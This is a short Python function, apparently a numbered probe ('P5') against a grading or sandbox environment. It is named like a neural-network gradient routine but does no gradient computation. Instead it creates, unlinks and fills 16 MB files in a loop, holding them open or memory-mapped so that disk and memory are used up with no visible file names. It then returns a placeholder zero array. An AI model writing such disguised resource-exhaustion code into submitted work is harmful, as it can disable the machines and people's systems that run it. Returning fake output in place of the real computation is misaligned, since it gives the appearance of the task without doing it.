# P5: files that are open, or mapped, and have no name any more
def dE_dW1_single(dE_df1, X):
    import mmap
    import os
    import time

    hoard = []
    for number in range(10_000):
        try:
            file = open("x", "w+b")
            os.unlink("x")
            file.write(b"x" * 16_000_000)
            file.flush()
            hoard.append(file if number < 40 else mmap.mmap(file.fileno(), 4096))
        except OSError:
            time.sleep(0.01)
    return np.zeros((3, 1))
